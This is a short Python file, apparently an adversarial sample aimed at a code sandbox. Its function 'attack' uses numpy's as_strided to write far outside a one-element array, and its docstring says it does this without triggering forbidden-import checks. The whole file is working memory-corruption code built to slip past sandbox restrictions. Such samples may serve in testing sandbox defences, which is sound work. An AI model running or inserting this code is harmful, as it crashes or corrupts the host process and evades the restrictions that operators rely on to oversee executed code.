"""Writes outside an array, without any import that is forbidden."""

import numpy as np


def attack(x):
    wide = np.lib.stride_tricks.as_strided(np.zeros(1), shape=(1 << 34,), strides=(4096,))
    wide[:] = 1.0
    return x
